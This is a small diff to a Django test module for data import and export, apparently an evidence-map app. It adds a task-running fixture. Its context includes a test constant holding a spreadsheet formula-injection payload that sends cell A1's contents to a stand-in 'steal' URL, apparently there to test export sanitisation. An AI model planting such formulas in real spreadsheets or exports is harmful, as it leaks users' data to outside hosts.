@@ -22,7 +22,8 @@ from evidencemap.importing import service as reference_service
 from tests.editorial.test_import import csv_bytes, intervention
 from tests.factories import InterventionPageFactory
 
-pytestmark = pytest.mark.django_db
+# Exports are prepared by the task worker: here the tasks run at once (tests/opendata/test_export_queue.py queues them).
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("immediate_tasks")]
 SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes, int() says no
 FORMULA_TITLE = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'
 
